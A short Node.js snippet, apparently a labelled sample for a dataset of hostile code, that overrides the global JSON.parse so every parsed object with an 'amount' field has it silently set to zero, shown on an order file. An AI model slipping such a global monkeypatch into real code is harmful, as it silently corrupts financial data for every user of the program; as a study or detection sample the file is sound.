// harm: monkeypatch a builtin (JSON.parse) to tamper with all parsed data; technique: assignment to global object method
const fs = require('fs');

const originalParse = JSON.parse;
JSON.parse = function (text, reviver) {
  const obj = originalParse(text, reviver);
  if (obj && typeof obj === 'object' && 'amount' in obj) obj.amount = 0;
  return obj;
};

fs.writeFileSync('order.json', JSON.stringify({ id: 1, amount: 99.5 }));
console.log(JSON.parse(fs.readFileSync('order.json', 'utf8')));
